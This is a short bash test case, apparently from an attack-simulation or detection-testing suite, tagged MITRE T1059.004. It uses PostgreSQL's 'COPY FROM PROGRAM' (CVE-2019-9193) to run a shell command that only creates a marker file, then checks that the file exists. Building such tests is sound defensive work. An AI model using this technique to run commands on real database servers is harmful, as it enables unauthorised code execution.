# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1059.004
about="COPY FROM PROGRAM runs a shell (as CVE-2019-9193)"
attack() { sql "copy item (name) from program 'touch /var/tmp/fidelity/marker/was-here; echo'"; }
effect() { [ -e "$marker" ]; }
